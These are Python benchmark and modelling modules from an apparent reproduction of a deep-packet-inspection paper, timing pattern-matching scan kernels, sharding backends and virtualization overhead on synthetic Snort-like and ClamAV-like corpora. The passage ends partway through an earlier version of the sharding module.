    ``percent_faster(186, 100) == 86.0`` — the paper's "86 % faster" form.
    """
    if old_value <= 0:
        raise ValueError(f"baseline must be positive: {old_value}")
    return (new_value / old_value - 1.0) * 100.0


def percent_less(new_value: float, old_value: float) -> float:
    """How much smaller *new_value* is than *old_value*, in percent
    (the paper's "just 12 % less than" form)."""
    if old_value <= 0:
        raise ValueError(f"baseline must be positive: {old_value}")
    return (1.0 - new_value / old_value) * 100.0


@dataclass
class Series:
    """A named (x, y) series, e.g. throughput vs pattern count."""

    name: str
    xs: list = field(default_factory=list)
    ys: list = field(default_factory=list)

    def append(self, x, y) -> None:
        """Add one (x, y) point."""
        self.xs.append(x)
        self.ys.append(y)

    def __len__(self) -> int:
        return len(self.xs)

    def format(self, x_label: str = "x", y_label: str = "y") -> str:
        """Render as aligned text."""
        lines = [f"series: {self.name}"]
        width = max((len(str(x)) for x in self.xs), default=1)
        for x, y in zip(self.xs, self.ys):
            y_text = f"{y:.3f}" if isinstance(y, float) else str(y)
            lines.append(f"  {x_label}={x!s:<{width}}  {y_label}={y_text}")
        return "\n".join(lines)

    def ascii_plot(self, width: int = 40) -> str:
        """A horizontal-bar rendering of the series (0 .. max scaled)."""
        if not self.ys:
            return f"series: {self.name} (empty)"
        peak = max(self.ys)
        lines = [f"series: {self.name}"]
        x_width = max(len(str(x)) for x in self.xs)
        for x, y in zip(self.xs, self.ys):
            bar = "#" * (round(width * y / peak) if peak > 0 else 0)
            y_text = f"{y:.1f}" if isinstance(y, float) else str(y)
            lines.append(f"  {x!s:>{x_width}} |{bar:<{width}}| {y_text}")
        return "\n".join(lines)


def plot_series_together(series_list, width: int = 40) -> str:
    """Several series on a shared scale — a text stand-in for a figure."""
    peak = max((max(s.ys) for s in series_list if s.ys), default=0)
    blocks = []
    for series in series_list:
        lines = [f"series: {series.name}"]
        x_width = max((len(str(x)) for x in series.xs), default=1)
        for x, y in zip(series.xs, series.ys):
            bar = "#" * (round(width * y / peak) if peak > 0 else 0)
            y_text = f"{y:.1f}" if isinstance(y, float) else str(y)
            lines.append(f"  {x!s:>{x_width}} |{bar:<{width}}| {y_text}")
        blocks.append("\n".join(lines))
    return "\n".join(blocks)


@dataclass
class Table:
    """A simple aligned text table."""

    title: str
    columns: list
    rows: list = field(default_factory=list)

    def add_row(self, *values) -> None:
        """Append a row; cell count must match the columns."""
        if len(values) != len(self.columns):
            raise ValueError(
                f"row has {len(values)} cells, table has {len(self.columns)} columns"
            )
        self.rows.append([self._render(v) for v in values])

    @staticmethod
    def _render(value) -> str:
        if isinstance(value, float):
            return f"{value:.3f}"
        return str(value)

    def format(self) -> str:
        """Render as aligned text."""
        widths = [len(c) for c in self.columns]
        for row in self.rows:
            for index, cell in enumerate(row):
                widths[index] = max(widths[index], len(cell))
        header = "  ".join(
            column.ljust(widths[index]) for index, column in enumerate(self.columns)
        )
        separator = "  ".join("-" * width for width in widths)
        body = [
            "  ".join(cell.ljust(widths[index]) for index, cell in enumerate(row))
            for row in self.rows
        ]
        return "\n".join([self.title, header, separator, *body])

    def print(self) -> None:
        """Print with a leading blank line."""
        print()
        print(self.format())
