"""Scan-kernel ablation: flat-table and regex-prefilter vs reference.

Builds Snort-scale workloads — the same pattern-count regime as the paper's
Snort corpus — from both synthetic corpora (token-flavored ``snort-like``
and high-entropy ``clamav-like``) over an HTTP-style trace, then measures
each kernel's throughput on the *same* automaton.  Kernels are timed in
interleaved rounds (kernel A, B, C, then A, B, C again ...) keeping the
best round per kernel, which cancels scheduler noise and frequency drift
that would bias a one-kernel-at-a-time comparison.

The two corpora deliberately bracket the regex kernel's operating range:
snort-like content strings share bytes with benign web traffic, so the
rare-byte prefilter bails out and the kernel rides its flat-table fallback;
clamav-like signatures anchor on bytes web traffic almost never carries,
so whole payloads are dismissed at C scan speed.
"""

from __future__ import annotations

import json
import time
from dataclasses import dataclass

from repro.core.combined import CombinedAutomaton
from repro.core.kernels import KERNEL_NAMES, ScanCache
from repro.core.patterns import Pattern
from repro.workloads.patterns import generate_clamav_like, generate_snort_like
from repro.workloads.traffic import TrafficGenerator

#: Corpus name -> generator, in the order benchmarks report them.
CORPORA = {
    "snort-like": generate_snort_like,
    "clamav-like": generate_clamav_like,
}


@dataclass(frozen=True)
class KernelWorkload:
    """One corpus + trace pairing with its combined automaton."""

    corpus: str
    automaton: CombinedAutomaton
    payloads: list
    total_bytes: int


def build_workload(
    corpus: str,
    pattern_count: int = 2000,
    packets: int = 60,
    pattern_seed: int = 1,
    trace_seed: int = 7,
    match_rate: float = 0.08,
    layout: str = "sparse",
) -> KernelWorkload:
    """A seeded corpus + HTTP trace + automaton for kernel ablations."""
    try:
        generator = CORPORA[corpus]
    except KeyError:
        raise ValueError(
            f"unknown corpus {corpus!r}; expected one of {tuple(CORPORA)}"
        ) from None
    patterns = generator(count=pattern_count, seed=pattern_seed)
    trace = TrafficGenerator(seed=trace_seed, style="http").trace(
        packets, patterns=patterns, match_rate=match_rate
    )
    automaton = CombinedAutomaton(
        {0: [Pattern(i, data) for i, data in enumerate(patterns)]},
        layout=layout,
    )
    return KernelWorkload(
        corpus=corpus,
        automaton=automaton,
        payloads=list(trace.payloads),
        total_bytes=trace.total_bytes,
    )


def _best_of_interleaved(automaton, payloads, total_bytes, kernels, rounds):
    """Best Mbps per kernel over interleaved timed rounds."""
    best = {name: 0.0 for name in kernels}
    for name in kernels:  # build every kernel once before timing
        automaton.select_kernel(name)
        for payload in payloads[:8]:
            automaton.scan(payload)
    for _ in range(rounds):
        for name in kernels:
            automaton.select_kernel(name)
            started = time.perf_counter()
            for payload in payloads:
                automaton.scan(payload)
            elapsed = time.perf_counter() - started
            mbps = total_bytes * 8 / elapsed / 1e6 if elapsed > 0 else float("inf")
            if mbps > best[name]:
                best[name] = mbps
    return best


def _cached_pass(automaton, payloads, total_bytes, cache_size, rounds):
    """Throughput of an all-hits pass with the LRU scan cache enabled."""
    automaton.scan_cache = ScanCache(cache_size)
    try:
        for payload in payloads:  # populate
            automaton.scan(payload)
        best = 0.0
        for _ in range(rounds):
            started = time.perf_counter()
            for payload in payloads:
                automaton.scan(payload)
            elapsed = time.perf_counter() - started
            mbps = total_bytes * 8 / elapsed / 1e6 if elapsed > 0 else float("inf")
            best = max(best, mbps)
        stats = automaton.scan_cache.stats()
    finally:
        automaton.scan_cache = None
    return best, stats


def run_kernel_benchmark(
    pattern_count: int = 2000,
    packets: int = 60,
    rounds: int = 5,
    kernels=KERNEL_NAMES,
    corpora=tuple(CORPORA),
    cache_size: int = 256,
) -> dict:
    """The full kernel ablation; returns the BENCH_kernels.json payload."""
    results: dict = {
        "benchmark": "scan-kernels",
        "config": {
            "pattern_count": pattern_count,
            "packets": packets,
            "rounds": rounds,
            "trace_style": "http",
            "match_rate": 0.08,
            "cache_size": cache_size,
        },
        "corpora": {},
    }
    for corpus in corpora:
        workload = build_workload(
            corpus, pattern_count=pattern_count, packets=packets
        )
        automaton = workload.automaton
        best = _best_of_interleaved(
            automaton, workload.payloads, workload.total_bytes, kernels, rounds
        )
        reference = best.get("reference", 0.0)
        entry: dict = {
            "total_bytes": workload.total_bytes,
            "num_states": automaton.num_states,
            "kernels": {
                name: {
                    "mbps": round(mbps, 2),
                    "speedup_vs_reference": (
                        round(mbps / reference, 2) if reference else None
                    ),
                }
                for name, mbps in best.items()
            },
        }
        if cache_size:
            automaton.select_kernel("flat")
            cached_mbps, stats = _cached_pass(
                automaton, workload.payloads, workload.total_bytes,
                cache_size, rounds,
            )
            entry["cache"] = {
                "kernel": "flat",
                "hit_pass_mbps": round(cached_mbps, 2),
                "speedup_vs_reference": (
                    round(cached_mbps / reference, 2) if reference else None
                ),
                "stats": stats,
            }
        results["corpora"][corpus] = entry
    return results


def format_results(results: dict) -> str:
    """Aligned text table of one :func:`run_kernel_benchmark` output."""
    lines = []
    config = results["config"]
    lines.append(
        f"scan kernels — {config['pattern_count']} patterns, "
        f"{config['packets']} packets ({config['trace_style']}), "
        f"best of {config['rounds']} interleaved rounds"
    )
    for corpus, entry in results["corpora"].items():
        lines.append(f"  {corpus} ({entry['num_states']} states):")
        for name, numbers in entry["kernels"].items():
            speedup = numbers["speedup_vs_reference"]
            speedup_text = f"{speedup:6.2f}x" if speedup is not None else "   n/a"
            lines.append(
                f"    {name:10} {numbers['mbps']:10.2f} Mbps  {speedup_text}"
            )
        cache = entry.get("cache")
        if cache is not None:
            speedup = cache["speedup_vs_reference"]
            speedup_text = f"{speedup:6.2f}x" if speedup is not None else "   n/a"
            lines.append(
                f"    {'cache-hit':10} {cache['hit_pass_mbps']:10.2f} Mbps  "
                f"{speedup_text} (hits {cache['stats']['hits']})"
            )
    return "\n".join(lines)


def write_results(results: dict, path) -> None:
    """Write a benchmark result dict as pretty-printed JSON."""
    with open(path, "w") as handle:
        json.dump(results, handle, indent=2, sort_keys=True)
        handle.write("\n")
