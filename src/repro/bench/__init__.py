"""Measurement harnesses for regenerating the paper's tables and figures.

* :mod:`repro.bench.throughput` — timing of scan loops, Mbps accounting;
* :mod:`repro.bench.virtualization` — the calibrated VM-overhead model used
  by Figure 8 (our substrate has no hypervisor to measure);
* :mod:`repro.bench.regions` — the achievable-throughput regions of
  Figure 10 (separate-middlebox rectangle vs virtual-DPI triangle);
* :mod:`repro.bench.harness` — text rendering of tables and series in the
  shape the paper reports.
"""

from repro.bench.throughput import ThroughputResult, measure_scan_throughput
from repro.bench.virtualization import CacheModel, VirtualizationModel
from repro.bench.regions import CombinedTriangle, SeparateRectangle, region_report
from repro.bench.harness import Series, Table, percent_faster

__all__ = [
    "ThroughputResult",
    "measure_scan_throughput",
    "CacheModel",
    "VirtualizationModel",
    "SeparateRectangle",
    "CombinedTriangle",
    "region_report",
    "Series",
    "Table",
    "percent_faster",
]
