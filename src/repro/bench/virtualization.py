"""The virtualization-overhead model behind Figure 8.

The paper measures AC throughput on (a) a stand-alone machine, (b) a single
VM with idle sibling cores, and (c) four VMs pinned to the four cores of one
socket, and finds that **virtualization has a minor impact while pattern
count has a major one**.  Our substrate has no hypervisor, so the hardware
effects are modeled analytically and layered over the *measured* pure-Python
scan throughput:

* a small constant hypervisor penalty for any VM (vCPU scheduling, nested
  paging) — a few percent;
* shared-L3 contention that grows with the number of co-resident VMs *and*
  with the automaton's working-set size relative to the cache — which is why
  the 4-VM curve in Figure 8 sags slightly more at high pattern counts.

The defaults are calibrated to the paper's i7-2600 (8 MB shared L3).
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class VirtualizationModel:
    """Deterministic throughput factors for VM deployment scenarios."""

    #: Constant hypervisor penalty applied to any VM (paper: "minor").
    hypervisor_penalty: float = 0.04
    #: Maximum additional slowdown from L3 contention at full cache pressure.
    max_contention_penalty: float = 0.10
    #: Shared last-level cache size of the modeled host (i7-2600: 8 MB).
    l3_bytes: int = 8 * 1024 * 1024

    def __post_init__(self) -> None:
        if not 0.0 <= self.hypervisor_penalty < 1.0:
            raise ValueError(f"bad hypervisor penalty: {self.hypervisor_penalty}")
        if not 0.0 <= self.max_contention_penalty < 1.0:
            raise ValueError(f"bad contention penalty: {self.max_contention_penalty}")

    def cache_pressure(self, working_set_bytes: int, num_vms: int) -> float:
        """Fraction of the L3 the co-resident working sets oversubscribe.

        0.0 = everything fits; 1.0 = full contention."""
        if num_vms <= 1:
            return 0.0
        demanded = working_set_bytes * num_vms
        if demanded <= self.l3_bytes:
            return 0.0
        return min(1.0, (demanded - self.l3_bytes) / demanded)

    def throughput_factor(self, num_vms: int, working_set_bytes: int = 0) -> float:
        """Multiplier on native throughput for a given deployment.

        ``num_vms = 0`` means stand-alone (no virtualization); 1 means a
        single VM with idle siblings; >1 means that many co-resident VMs,
        each reporting its own (equal) throughput."""
        if num_vms < 0:
            raise ValueError(f"negative VM count: {num_vms}")
        if num_vms == 0:
            return 1.0
        factor = 1.0 - self.hypervisor_penalty
        pressure = self.cache_pressure(working_set_bytes, num_vms)
        factor *= 1.0 - self.max_contention_penalty * pressure
        return factor

    def effective_mbps(
        self, native_mbps: float, num_vms: int, working_set_bytes: int = 0
    ) -> float:
        """Per-VM throughput under the deployment."""
        return native_mbps * self.throughput_factor(num_vms, working_set_bytes)


@dataclass(frozen=True)
class CacheModel:
    """The memory-hierarchy effect of automaton size on scan throughput.

    On the paper's testbed, a larger DFA working set overflows the L3 cache
    and every DFA transition risks a memory stall — this is why **pattern
    count has a major impact** in Figure 8 and why the combined automaton of
    Table 2 runs ~12 % slower than each half.  The CPython interpreter's
    per-byte overhead (~100 ns) completely masks cache misses (~20 ns), so
    the effect cannot be measured here; it is modeled as::

        factor(ws) = 1 / (1 + pressure_coefficient * ws / l3_bytes)

    ``pressure_coefficient`` is calibrated against Table 2: Snort1
    (26.5 MB, 981 Mbps) vs Snort1+Snort2 (49 MB, 768 Mbps) on an 8 MB L3
    gives ~0.146; the default rounds to 0.15.
    """

    pressure_coefficient: float = 0.15
    l3_bytes: int = 8 * 1024 * 1024

    def __post_init__(self) -> None:
        if self.pressure_coefficient < 0:
            raise ValueError(
                f"negative pressure coefficient: {self.pressure_coefficient}"
            )
        if self.l3_bytes <= 0:
            raise ValueError(f"L3 size must be positive: {self.l3_bytes}")

    def throughput_factor(self, working_set_bytes: int) -> float:
        """Multiplier on native throughput for this deployment."""
        if working_set_bytes < 0:
            raise ValueError(f"negative working set: {working_set_bytes}")
        pressure = working_set_bytes / self.l3_bytes
        return 1.0 / (1.0 + self.pressure_coefficient * pressure)

    def effective_mbps(self, native_mbps: float, working_set_bytes: int) -> float:
        """Native throughput scaled by the model's factor."""
        return native_mbps * self.throughput_factor(working_set_bytes)
