"""Achievable-throughput regions (paper Figure 10).

Two middleboxes with pattern sets A and B handle two traffic classes.

* **Separate deployment** — each set runs on its own machine; the feasible
  (class-A Mbps, class-B Mbps) region is the *rectangle*
  ``[0, T_A] x [0, T_B]``.
* **Virtual DPI** — both machines run the combined engine and any split of
  the two traffic classes; the feasible region is the *triangle*
  ``x + y <= machines * T_combined`` (with x, y >= 0).

The interesting area is inside the triangle but outside the rectangle: one
class may exceed 100 % of its dedicated-machine capacity by borrowing the
other's idle resources — the paper's Clam-AV-over-100 % example.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class SeparateRectangle:
    """Feasible region of the dedicated-middlebox deployment."""

    max_a_mbps: float
    max_b_mbps: float

    def __post_init__(self) -> None:
        if self.max_a_mbps < 0 or self.max_b_mbps < 0:
            raise ValueError("throughputs must be non-negative")

    def contains(self, a_mbps: float, b_mbps: float) -> bool:
        """True if the point lies inside the region."""
        return 0 <= a_mbps <= self.max_a_mbps and 0 <= b_mbps <= self.max_b_mbps

    @property
    def area(self) -> float:
        """Region area (Mbps^2) — for quick comparisons."""
        return self.max_a_mbps * self.max_b_mbps

    def corners(self) -> list:
        """The region's corner points."""
        return [
            (0.0, 0.0),
            (self.max_a_mbps, 0.0),
            (self.max_a_mbps, self.max_b_mbps),
            (0.0, self.max_b_mbps),
        ]


@dataclass(frozen=True)
class CombinedTriangle:
    """Feasible region of the virtual-DPI deployment."""

    combined_mbps_per_machine: float
    machines: int = 2

    def __post_init__(self) -> None:
        if self.combined_mbps_per_machine < 0:
            raise ValueError("throughput must be non-negative")
        if self.machines < 1:
            raise ValueError(f"need at least one machine: {self.machines}")

    @property
    def total_mbps(self) -> float:
        """Aggregate capacity across the machines."""
        return self.combined_mbps_per_machine * self.machines

    def contains(self, a_mbps: float, b_mbps: float) -> bool:
        """True if the point lies inside the region."""
        if a_mbps < 0 or b_mbps < 0:
            return False
        return a_mbps + b_mbps <= self.total_mbps

    @property
    def area(self) -> float:
        """Region area (Mbps^2) — for quick comparisons."""
        return self.total_mbps * self.total_mbps / 2

    def corners(self) -> list:
        """The region's corner points."""
        return [(0.0, 0.0), (self.total_mbps, 0.0), (0.0, self.total_mbps)]


@dataclass(frozen=True)
class RegionComparison:
    """How the two regions relate for one middlebox pair."""

    rectangle: SeparateRectangle
    triangle: CombinedTriangle
    #: Peak class-A throughput under virtual DPI relative to its dedicated
    #: machine (>1.0 means exceeding "100 % of original capacity").
    peak_a_gain: float
    peak_b_gain: float
    #: Points feasible for virtual DPI but not for separate deployment.
    gain_examples: tuple

    @property
    def triangle_covers_rectangle_corner(self) -> bool:
        """Whether the combined deployment can serve both classes at their
        dedicated maxima simultaneously."""
        return self.triangle.contains(
            self.rectangle.max_a_mbps, self.rectangle.max_b_mbps
        )


def region_report(
    separate_a_mbps: float,
    separate_b_mbps: float,
    combined_mbps: float,
    machines: int = 2,
) -> RegionComparison:
    """Build the Figure 10 comparison for one middlebox pair."""
    rectangle = SeparateRectangle(separate_a_mbps, separate_b_mbps)
    triangle = CombinedTriangle(combined_mbps, machines=machines)
    peak_a_gain = (
        triangle.total_mbps / separate_a_mbps if separate_a_mbps > 0 else float("inf")
    )
    peak_b_gain = (
        triangle.total_mbps / separate_b_mbps if separate_b_mbps > 0 else float("inf")
    )
    examples = []
    # The all-A and all-B extremes, when they escape the rectangle:
    if triangle.total_mbps > separate_a_mbps:
        examples.append((triangle.total_mbps, 0.0))
    if triangle.total_mbps > separate_b_mbps:
        examples.append((0.0, triangle.total_mbps))
    return RegionComparison(
        rectangle=rectangle,
        triangle=triangle,
        peak_a_gain=peak_a_gain,
        peak_b_gain=peak_b_gain,
        gain_examples=tuple(examples),
    )
