"""Sharding ablation: sharded fan-out scanning vs the monolithic kernels.

Compares one combined automaton scanning Snort-scale workloads against the
same pattern set split across K shards, per corpus:

* ``monolithic/reference`` and ``monolithic/flat`` — the PR-1 kernels, the
  baselines every row is normalized against;
* ``sharded/serial`` — fan-out and merge with in-process shard kernels:
  measures the pure sharding overhead (K partial scans + merge);
* ``sharded/process/wN`` — the multiprocessing pool at N workers, scanned
  through the batched path (one pool round-trip per shard per round):
  every payload batch is pickled once per shard, the honest IPC cost;
* ``sharded/zerocopy/wN`` — the shared-memory arena backend at N workers:
  payloads are written into the arena once and workers pull descriptors,
  so the batch never crosses a pickle boundary;
* ``sharded/zerocopy-pipelined/wN`` — the same arena double-buffered:
  writing chunk N+1 overlaps scanning chunk N.

Worker counts are swept (default ``1, 2, 4``) and recorded per row:
``cpu_count`` is in the config because the pooled rows' speedups are
hardware-dependent — on one core they lean entirely on removing IPC
overhead; with ≥2 cores the shards genuinely overlap and ``zerocopy``
is expected to clear ``serial``.

The shard-kernel family per corpus defaults to ``auto``: a short probe
scans a payload subset with each candidate family and the faster one is
selected, with the probe numbers recorded in ``shard_kernel_note`` — so a
corpus is never silently benched on a known-losing family (the old fixed
snort-like/flat pairing lost ~4× to the monolithic flat kernel; the note
now documents whichever choice wins).

Rounds are interleaved (row A, B, C, then A, B, C again ...) keeping the
best round per row, like the kernel ablation, so scheduler noise hits every
row equally.
"""

from __future__ import annotations

import os
import time

from repro.bench.kernels import CORPORA, build_workload, write_results
from repro.core.patterns import Pattern
from repro.core.sharding import ShardedAutomaton

__all__ = [
    "ABLATION_CONFIGS",
    "WORKER_SWEEP",
    "run_sharding_benchmark",
    "format_sharding_results",
    "write_results",
]

#: Corpus -> shard-kernel family pairings the ablation runs (``auto``
#: probes the candidates and records the choice in ``shard_kernel_note``).
ABLATION_CONFIGS = (
    ("snort-like", "auto"),
    ("clamav-like", "auto"),
)

#: Worker counts every pooled backend row is swept over.
WORKER_SWEEP = (1, 2, 4)

#: Shard-kernel families ``auto`` probes, in probe order.
_KERNEL_CANDIDATES = ("flat", "regex")

#: Payloads the auto-selection probe scans per candidate.
_PROBE_PAYLOADS = 12


def _throughput(total_bytes: int, elapsed: float) -> float:
    return total_bytes * 8 / elapsed / 1e6 if elapsed > 0 else float("inf")


def _select_shard_kernel(
    pattern_sets, shards: int, payloads
) -> "tuple[str, str]":
    """Probe the candidate shard-kernel families on a payload subset.

    Returns ``(winner, note)`` where the note records every candidate's
    probe throughput — the honest record of why this family was picked.
    """
    probe = list(payloads[:_PROBE_PAYLOADS])
    probe_bytes = sum(len(payload) for payload in probe)
    timings: "dict[str, float]" = {}
    for kernel in _KERNEL_CANDIDATES:
        automaton = ShardedAutomaton(pattern_sets, shards, shard_kernel=kernel)
        automaton.scan_batch(probe)  # warm-up: builds the shard kernels
        started = time.perf_counter()
        automaton.scan_batch(probe)
        timings[kernel] = _throughput(
            probe_bytes, time.perf_counter() - started
        )
        automaton.shutdown()
    winner = max(timings, key=lambda kernel: (timings[kernel], kernel))
    note = "auto-selected from probe: " + ", ".join(
        f"{kernel} {mbps:.0f} Mbps" for kernel, mbps in sorted(timings.items())
    )
    return winner, note


def _run_corpus(
    corpus: str,
    shard_kernel: str,
    pattern_count: int,
    packets: int,
    rounds: int,
    shards: int,
    worker_counts,
) -> dict:
    """One corpus's full row comparison (see the module doc)."""
    workload = build_workload(
        corpus, pattern_count=pattern_count, packets=packets
    )
    monolithic = workload.automaton
    payloads = workload.payloads
    total_bytes = workload.total_bytes
    # The same pattern set build_workload fed the monolithic automaton
    # (generator and pattern_seed=1 match build_workload's defaults).
    contents = CORPORA[corpus](count=pattern_count, seed=1)
    pattern_sets = {0: [Pattern(i, data) for i, data in enumerate(contents)]}

    if shard_kernel == "auto":
        shard_kernel, kernel_note = _select_shard_kernel(
            pattern_sets, shards, payloads
        )
    else:
        kernel_note = "fixed by configuration"

    # Pooled rows with more workers than cores only measure time-slicing
    # overhead — they cannot win.  Skip them and record why.
    cpu_count = os.cpu_count() or 1
    usable_counts = [w for w in worker_counts if w <= cpu_count]
    skipped_counts = [w for w in worker_counts if w > cpu_count]

    serial = ShardedAutomaton(
        pattern_sets, shards, shard_kernel=shard_kernel, backend="serial"
    )
    pools = {
        workers: ShardedAutomaton(
            pattern_sets,
            shards,
            shard_kernel=shard_kernel,
            backend="process",
            workers=workers,
        )
        for workers in usable_counts
    }
    arenas = {
        workers: ShardedAutomaton(
            pattern_sets,
            shards,
            shard_kernel=shard_kernel,
            backend="zerocopy",
            workers=workers,
        )
        for workers in usable_counts
    }

    def run_monolithic(kernel: str) -> float:
        monolithic.select_kernel(kernel)
        started = time.perf_counter()
        for payload in payloads:
            monolithic.scan(payload)
        return _throughput(total_bytes, time.perf_counter() - started)

    def run_sharded(automaton, pipelined: bool = False) -> float:
        started = time.perf_counter()
        automaton.scan_batch(payloads, pipelined=pipelined)
        return _throughput(total_bytes, time.perf_counter() - started)

    rows: "dict[str, tuple[int | None, object]]" = {
        "monolithic/reference": (None, lambda: run_monolithic("reference")),
        "monolithic/flat": (None, lambda: run_monolithic("flat")),
        "sharded/serial": (None, lambda: run_sharded(serial)),
    }
    for workers in usable_counts:
        rows[f"sharded/process/w{workers}"] = (
            workers,
            lambda automaton=pools[workers]: run_sharded(automaton),
        )
        rows[f"sharded/zerocopy/w{workers}"] = (
            workers,
            lambda automaton=arenas[workers]: run_sharded(automaton),
        )
        rows[f"sharded/zerocopy-pipelined/w{workers}"] = (
            workers,
            lambda automaton=arenas[workers]: run_sharded(
                automaton, pipelined=True
            ),
        )

    best = {name: 0.0 for name in rows}
    for name, (_, runner) in rows.items():  # warm-up: kernels, pools, arenas
        runner()
    for _ in range(rounds):
        for name, (_, runner) in rows.items():
            best[name] = max(best[name], runner())
    reference = best["monolithic/reference"]

    zerocopy_rows = {
        name: mbps for name, mbps in best.items() if "/zerocopy" in name
    }
    # Guard: with every pooled width over the core count there is nothing
    # to compare; the serial row becomes its own headline.
    if zerocopy_rows:
        best_zerocopy = max(
            zerocopy_rows, key=lambda name: (zerocopy_rows[name], name)
        )
    else:
        zerocopy_rows = {"sharded/serial": best["sharded/serial"]}
        best_zerocopy = "sharded/serial"
    serial_mbps = best["sharded/serial"]

    plan = serial.plan
    entry = {
        "shard_kernel": shard_kernel,
        "shard_kernel_note": kernel_note,
        "total_bytes": total_bytes,
        "plan": {
            "strategy": plan.strategy,
            "seed": plan.seed,
            "shard_costs": plan.shard_costs(),
            "balance_ratio": round(plan.balance_ratio(), 4),
        },
        "rows": {
            name: {
                "mbps": round(mbps, 2),
                "workers": rows[name][0],
                "speedup_vs_reference": (
                    round(mbps / reference, 2) if reference else None
                ),
            }
            for name, mbps in best.items()
        },
        "skipped_rows": {
            f"sharded/{backend}/w{workers}": {
                "workers": workers,
                "skipped": "insufficient cores",
            }
            for workers in skipped_counts
            for backend in ("process", "zerocopy", "zerocopy-pipelined")
        },
        "headline": {
            "best_zerocopy_row": best_zerocopy,
            "best_zerocopy_mbps": round(zerocopy_rows[best_zerocopy], 2),
            "sharded_serial_mbps": round(serial_mbps, 2),
            "zerocopy_vs_serial": (
                round(zerocopy_rows[best_zerocopy] / serial_mbps, 2)
                if serial_mbps
                else None
            ),
        },
    }
    serial.shutdown()
    for automaton in (*pools.values(), *arenas.values()):
        automaton.shutdown()
    return entry


def run_sharding_benchmark(
    pattern_count: int = 2000,
    packets: int = 60,
    rounds: int = 5,
    shards: int = 4,
    configs=ABLATION_CONFIGS,
    worker_counts=WORKER_SWEEP,
) -> dict:
    """The full sharding ablation; returns the BENCH_sharding.json payload."""
    results: dict = {
        "benchmark": "sharding",
        "config": {
            "pattern_count": pattern_count,
            "packets": packets,
            "rounds": rounds,
            "shards": shards,
            "worker_counts": list(worker_counts),
            "trace_style": "http",
            "match_rate": 0.08,
            "cpu_count": os.cpu_count(),
        },
        "corpora": {},
    }
    for corpus, shard_kernel in configs:
        results["corpora"][corpus] = _run_corpus(
            corpus,
            shard_kernel,
            pattern_count,
            packets,
            rounds,
            shards,
            worker_counts,
        )
    return results


def format_sharding_results(results: dict) -> str:
    """Aligned text table of one :func:`run_sharding_benchmark` output."""
    config = results["config"]
    lines = [
        f"sharding ablation — {config['pattern_count']} patterns, "
        f"{config['packets']} packets ({config['trace_style']}), "
        f"{config['shards']} shards, best of {config['rounds']} "
        f"interleaved rounds, {config['cpu_count']} cpus"
    ]
    for corpus, entry in results["corpora"].items():
        plan = entry["plan"]
        lines.append(
            f"  {corpus} (shard kernel {entry['shard_kernel']}, "
            f"balance {plan['balance_ratio']:.3f}; "
            f"{entry['shard_kernel_note']}):"
        )
        for name, numbers in entry["rows"].items():
            speedup = numbers["speedup_vs_reference"]
            speedup_text = (
                f"{speedup:6.2f}x" if speedup is not None else "   n/a"
            )
            workers = numbers["workers"]
            workers_text = f"{workers:>2} workers" if workers else "          "
            lines.append(
                f"    {name:30} {numbers['mbps']:10.2f} Mbps  "
                f"{speedup_text}  {workers_text}"
            )
        for name, numbers in entry.get("skipped_rows", {}).items():
            lines.append(
                f"    {name:30} {'—':>10}       "
                f"skipped: {numbers['skipped']}  "
                f"{numbers['workers']:>2} workers"
            )
        headline = entry["headline"]
        lines.append(
            f"    headline: {headline['best_zerocopy_row']} at "
            f"{headline['best_zerocopy_mbps']:.2f} Mbps = "
            f"{headline['zerocopy_vs_serial']}x sharded/serial"
        )
    return "\n".join(lines)
