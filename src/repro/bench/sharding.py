"""Sharding ablation: sharded fan-out scanning vs the monolithic kernels.

Compares one combined automaton scanning Snort-scale workloads against the
same pattern set split across K shards, per corpus:

* ``monolithic/reference`` and ``monolithic/flat`` — the PR-1 kernels, the
  baselines every row is normalized against;
* ``sharded/serial`` — fan-out and merge with in-process shard kernels:
  measures the pure sharding overhead (K partial scans + merge);
* ``sharded/process`` — the multiprocessing pool, scanned through the
  batched path (one pool round-trip per shard per round) so the pool
  actually amortizes; this is the row the ≥1.5× acceptance criterion on
  ``speedup_vs_reference`` reads.

Each corpus pairs with the shard-kernel family that fits it (the same
bracketing as the kernel ablation): token-flavored ``snort-like`` patterns
ride the flat-table shard kernel, high-entropy ``clamav-like`` signatures
ride the regex-prefilter shard kernel, whose rare-byte anchors get *rarer*
per shard — sharding there multiplies the prefilter's dismiss rate instead
of just dividing the pattern count.

Rounds are interleaved (row A, B, C, then A, B, C again ...) keeping the
best round per row, like the kernel ablation, so scheduler noise hits every
row equally.  ``cpu_count`` is recorded in the payload because the process
row's speedup is hardware-dependent: with one core it leans entirely on
per-shard kernel speedups; with K cores the shards genuinely overlap.
"""

from __future__ import annotations

import os
import time

from repro.bench.kernels import CORPORA, build_workload, write_results
from repro.core.patterns import Pattern
from repro.core.sharding import ShardedAutomaton

__all__ = [
    "ABLATION_CONFIGS",
    "run_sharding_benchmark",
    "format_sharding_results",
    "write_results",
]

#: Corpus -> shard-kernel family pairings the ablation runs.
ABLATION_CONFIGS = (
    ("snort-like", "flat"),
    ("clamav-like", "regex"),
)


def _throughput(total_bytes: int, elapsed: float) -> float:
    return total_bytes * 8 / elapsed / 1e6 if elapsed > 0 else float("inf")


def _run_corpus(
    corpus: str,
    shard_kernel: str,
    pattern_count: int,
    packets: int,
    rounds: int,
    shards: int,
) -> dict:
    """One corpus's four-row comparison (see the module doc)."""
    workload = build_workload(
        corpus, pattern_count=pattern_count, packets=packets
    )
    monolithic = workload.automaton
    payloads = workload.payloads
    total_bytes = workload.total_bytes
    # The same pattern set build_workload fed the monolithic automaton
    # (generator and pattern_seed=1 match build_workload's defaults).
    contents = CORPORA[corpus](count=pattern_count, seed=1)
    pattern_sets = {0: [Pattern(i, data) for i, data in enumerate(contents)]}

    sharded = {
        backend: ShardedAutomaton(
            pattern_sets, shards, shard_kernel=shard_kernel, backend=backend
        )
        for backend in ("serial", "process")
    }

    def run_monolithic(kernel: str) -> float:
        monolithic.select_kernel(kernel)
        started = time.perf_counter()
        for payload in payloads:
            monolithic.scan(payload)
        return _throughput(total_bytes, time.perf_counter() - started)

    def run_sharded(backend: str) -> float:
        automaton = sharded[backend]
        started = time.perf_counter()
        automaton.scan_batch(payloads)
        return _throughput(total_bytes, time.perf_counter() - started)

    rows = {
        "monolithic/reference": lambda: run_monolithic("reference"),
        "monolithic/flat": lambda: run_monolithic("flat"),
        "sharded/serial": lambda: run_sharded("serial"),
